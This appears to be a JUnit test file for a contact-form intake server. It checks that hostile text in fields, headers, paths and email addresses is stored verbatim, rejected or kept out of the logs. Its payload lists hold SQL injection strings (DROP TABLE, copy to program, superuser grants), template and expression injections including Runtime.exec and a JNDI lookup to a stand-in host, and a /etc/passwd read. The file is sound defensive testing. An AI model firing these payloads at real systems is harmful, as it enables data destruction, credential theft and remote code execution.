package cl.smarterbot.hub.door;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import cl.smarterbot.hub.door.RawHttp.Reply;
import cl.smarterbot.hub.testing.TestDatabase;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

@DisplayName("Hostile text in a form")
class HostileTextTest {

    private static IntakeHub hub;
    private static final ListAppender<ILoggingEvent> LOGGED = new ListAppender<>();

    @BeforeAll
    static void open() throws Exception {
        TestDatabase database = TestDatabase.fresh();
        database.superuser("insert into public.tenants (rut, business_name) values ('78000009-0', 'Casa')");
        database.superuser("insert into hub.tenant_settings (tenant_rut, slug, plan, house) values"
                + " ('78000009-0', 'c', 'unlimited', true)");
        hub = new IntakeHub(database, IntakeHub.PLAIN);
        LOGGED.start();
        root().addAppender(LOGGED);
    }

    @AfterAll
    static void close() {
        root().detachAppender(LOGGED);
        hub.close();
    }

    private static Logger root() {
        return (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    }

    private static final List<String> SQL = List.of(
            "'",
            "''",
            "'''",
            "\"",
            "\\",
            "\\'",
            "\\\\'",
            "`",
            ";",
            "--",
            "/*",
            "*/",
            "/* x */",
            "/*! select */",
            "#",
            "%",
            "_",
            "%'",
            "$$",
            "$$; select 1; $$",
            "$1",
            "$1::text",
            ":name",
            ":#name",
            ":#${body}",
            "?",
            "??",
            "?::int",
            "{call x()}",
            "{fn now()}",
            "{d '2026-01-01'}",
            "' or '1'='1",
            "' or 1=1--",
            "' or 1=1#",
            "' or 1=1/*",
            "\" or \"\"=\"",
            "or 1=1",
            "1; select pg_sleep(5)",
            "'; select pg_sleep(5)--",
            "' || pg_sleep(5) || '",
            "') or pg_sleep(5) is not null--",
            "'; drop table public.contacts; --",
            "'); drop table public.contacts; --",
            "Robert'); DROP TABLE contacts;--",
            "'; truncate hub.delivery cascade; --",
            "'; update public.tenants set active = false; --",
            "'; delete from hub.api_key; --",
            "'; insert into hub.api_key default values; --",
            "' union select null--",
            "' union all select key_hash from hub.api_key--",
            "' and (select count(*) from hub.api_key) > 0--",
            "' and 1=cast((select version()) as int)--",
            "' and extractvalue(1, concat(0x7e, version()))--",
            "'; set role hub_log; --",
            "'; set app.tenant_rut = '76000012-4'; --",
            "'; select set_config('app.tenant_rut', '76000012-4', false); --",
            "'; reset role; --",
            "'; set local row_security = off; --",
            "'; copy (select 1) to program 'id'; --",
            "'; copy hub.api_key to stdout; --",
            "'; create extension dblink; --",
            "'; do $x$ begin raise exception 'x'; end $x$; --",
            "'; notify hub_registry; --",
            "'; listen hub_delivery; --",
            "'; commit; --",
            "'; rollback; --",
            "'; lock table public.events; --",
            "'; alter role hub_app superuser; --",
            "U&'\\0027 or 1=1'",
            "E'\\x27'",
            "e'\\047 or 1=1'",
            "x'27'",
            "b'1'",
            "chr(39)||chr(39)",
            "\u02bc or 1=1",
            "\uff07 or 1=1",
            "\u2019 or 1=1",
            "%27 or 1=1",
            "&#39; or 1=1",
            "{\"a\":1}",
            "{1,2}",
            "{\"\",NULL}",
            "NULL",
            "null",
            "default",
            "'{}'::jsonb",
            "->>'x'",
            "@> '{}'",
            "case when 1=1 then 1 end",
            "admin'--",
            "0x27",
            "\u00bf' or 1=1",
            "sp_executesql N'x'",
            "xp_cmdshell",
            "waitfor delay '0:0:5'",
            "order by 1--",
            "1 and 1=1",
            "(select 1)");

    private static final List<String> EXPRESSIONS = List.of(
            "${body}",
            "${header.X-API-Key}",
            "${sys.user.home}",
            "${env:HOME}",
            "${sysenv.PATH}",
            "${bean:contactForm?method=read}",
            "${exchange.context.stop()}",
            "${variable.suspected}",
            "${exception.stacktrace}",
            "${properties:hub.database.password}",
            "$simple{body}",
            "$simple{bean:contactForm}",
            "{{hub.database.password}}",
            "{{env:HOME}}",
            "{{sys:user.home}}",
            "{{secret:x}}",
            "{{?x}}",
            "{{",
            "}}",
            "#{systemProperties}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "%{1+1}",
            "@{x}",
            "*{x}",
            "~{x}",
            "<%= 1+1 %>",
            "{{constructor.constructor('x')()}}",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://evil.example/a}",
            "$.store.book[*]",
            "$..*",
            "[('id', '>', 0)]",
            "['|', ('a', '=', 1), ('b', '=', 2)]",
            "#bean:contactForm",
            "#class:java.lang.ProcessBuilder",
            "RAW(x)",
            "RAW{x}",
            "constant:x",
            "simple:${body}",
            "file:/etc/passwd",
            "classpath:application.yaml",
            "ref:contactForm",
            "!!javax.script.ScriptEngineManager []",
            "<script>alert(1)</script>",
            "=cmd|' /C calc'!A0");

    private static JsonNode stored(Reply reply) throws IOException {
        assertThat(reply.status()).as(reply.body()).isEqualTo(201);
        UUID id = UUID.fromString(reply.json().path("id").asText());
        Map<String, Object> row = hub.sql.queryForMap(
                "select name, email, message, phone, source, domain from public.contacts where id = ?", id);
        JsonNode payload = RawHttp.JSON.readTree(
                hub.sql.queryForObject("select body from hub.payload where event_id = ?", byte[].class, id));
        row.forEach((column, value) ->
                assertThat(payload.path(column).asText(null)).as(column).isEqualTo(value));
        return payload;
    }

    @Test
    @DisplayName("is stored as it came, in every field, whether it looks like SQL or like an expression")
    void verbatim() throws IOException {
        assertThat(SQL).hasSizeGreaterThanOrEqualTo(60);
        int number = 0;
        for (String text : Stream.concat(SQL.stream(), EXPRESSIONS.stream()).toList()) {
            number++;
            ObjectNode form = RawHttp.JSON
                    .createObjectNode()
                    .put("name", text)
                    .put("email", "ana@example.org")
                    .put("message", text)
                    .put("source", text)
                    .put(text, text);
            if (text.length() <= 50) {
                form.put("phone", text);
            }
            String ascii = text.replaceAll("[^\\x21-\\x7e]", "_");
            JsonNode stored = stored(RawHttp.post(
                    hub.port(),
                    "Idempotency-Key: " + ascii + number + "\r\nUser-Agent: " + ascii + "\r\nIf-None-Match: " + ascii
                            + "\r\ntraceparent: " + ascii + "\r\nOrigin: " + ascii + "\r\n",
                    form.toString()));
            for (String field : List.of("name", "message", "source")) {
                assertThat(stored.path(field).asText()).as(field).isEqualTo(text);
            }
            assertThat(stored.path("phone").asText(null)).isEqualTo(text.length() <= 50 ? text : null);
        }
        assertThat(hub.count("public.tenants where active"))
                .as("and the tables are there")
                .isEqualTo(1);
        assertThat(hub.sql.queryForList("select distinct tenant_rut from public.contacts", String.class))
                .containsExactly("78000009-0");
    }

    @Test
    @DisplayName("in an address is no address, or is stored as it came")
    void inAddress() throws IOException {
        int accepted = 0;
        for (String text : Stream.concat(SQL.stream(), EXPRESSIONS.stream()).toList()) {
            String email = text + "@example.org";
            Reply reply = RawHttp.post(
                    hub.port(),
                    "",
                    RawHttp.JSON
                            .createObjectNode()
                            .put("name", "Ana")
                            .put("email", email)
                            .put("message", "Hola")
                            .toString());
            if (reply.status() == 201) {
                assertThat(stored(reply).path("email").asText()).isEqualTo(email);
                accepted++;
            } else {
                assertThat(reply.problem()).as(email).isEqualTo("invalid-fields");
            }
        }
        assertThat(accepted).isBetween(10, SQL.size());
    }

    @Test
    @DisplayName("in the path or the query leads nowhere")
    void inPath() throws IOException {
        for (String text : SQL) {
            String ascii = text.replaceAll("[^\\x21-\\x7e]|[?#]", "_");
            Reply path = RawHttp.send(
                    hub.port(),
                    "POST /contact/" + ascii + " HTTP/1.1\r\nHost: hub\r\nContent-Type: application/json\r\n",
                    new byte[0]);
            assertThat(path.status()).as(ascii).isEqualTo(404);
            Reply query = RawHttp.send(
                    hub.port(),
                    "POST /contact?id=" + ascii + "&sort=" + ascii
                            + " HTTP/1.1\r\nHost: hub\r\nContent-Type: application/json\r\n",
                    "{\"name\":\"Ana\",\"email\":\"ana@example.org\",\"message\":\"Hola\"}".getBytes());
            assertThat(query.status()).as(ascii).isEqualTo(201);
            assertThat(query.body()).doesNotContain("sort");
        }
    }

    @Test
    @DisplayName("named like a part of an object's prototype is a field like any other unknown one")
    void prototype() throws IOException {
        JsonNode stored = stored(
                RawHttp.post(
                        hub.port(),
                        "",
                        "{\"__proto__\":{\"name\":\"Eva\",\"admin\":true},\"constructor\":{\"prototype\":{\"phone\":\"1\"}},"
                                + "\"name\":\"Ana\",\"email\":\"ana@example.org\",\"message\":\"__proto__\",\"@type\":\"x\","
                                + "\"@class\":\"java.lang.ProcessBuilder\",\"class\":\"x\",\"tenant_rut\":\"76000012-4\","
                                + "\"id\":\"00000000-0000-0000-0000-000000000000\",\"status\":\"closed\",\"domain\":\"evil.example\"}"));
        assertThat(stored)
                .isEqualTo(RawHttp.JSON.readTree(
                        "{\"name\":\"Ana\",\"email\":\"ana@example.org\",\"message\":\"__proto__\"}"));
    }

    @Test
    @DisplayName("cannot write a line of its own into the log, nor colour one")
    void logForging() throws IOException {
        String forged = "\r\n2026-01-01 INFO forged-line \u001b[31mred\u001b[0m \u2028 \u0085";
        LOGGED.list.clear();
        ObjectNode form = RawHttp.JSON
                .createObjectNode()
                .put("name", "Ana" + forged)
                .put("email", "ana" + forged + "@example.org")
                .put("message", forged)
                .put("phone", forged)
                .put("source", forged)
                .put(forged, forged);
        assertThat(RawHttp.post(hub.port(), "", form.toString()).status()).isEqualTo(422);
        assertThat(RawHttp.post(
                                hub.port(),
                                "",
                                form.put("email", "ana@example.org").toString())
                        .status())
                .isEqualTo(201);
        String oneLine = "forged-line\u001b[31m\u0085";
        for (String header : List.of(
                "X-API-Key",
                "Origin",
                "Idempotency-Key",
                "User-Agent",
                "Content-Type",
                "traceparent",
                "X-Forwarded-For")) {
            RawHttp.post(hub.port(), header + ": " + oneLine + "\r\n", form.toString());
        }
        RawHttp.send(hub.port(), "POST /forged-line%0d%0a\u001b[31m HTTP/1.1\r\nHost: hub\r\n\r\n");
        RawHttp.send(hub.port(), "FORGED-LINE\u001b /contact HTTP/1.1\r\nHost: hub\r\n\r\n");
        RawHttp.send(hub.port(), "forged-line\u001b[31m\r\n\r\n");
        RawHttp.send(hub.port(), "POST /contact HTTP/1.1\r\nHost: hub\r\nforged-line\u001b[31m\r\n\r\n");
        RawHttp.send(
                hub.port(),
                "POST /contact HTTP/1.1\r\nHost: hub\r\nforged-line: " + "x".repeat(1_000_000) + "\r\n\r\n");
        assertThat(LOGGED.list)
                .noneMatch(e -> e.getFormattedMessage()
                        .toLowerCase(java.util.Locale.ROOT)
                        .contains("forged-line"))
                .noneMatch(e -> e.getFormattedMessage().indexOf('\u001b') >= 0);
    }
}
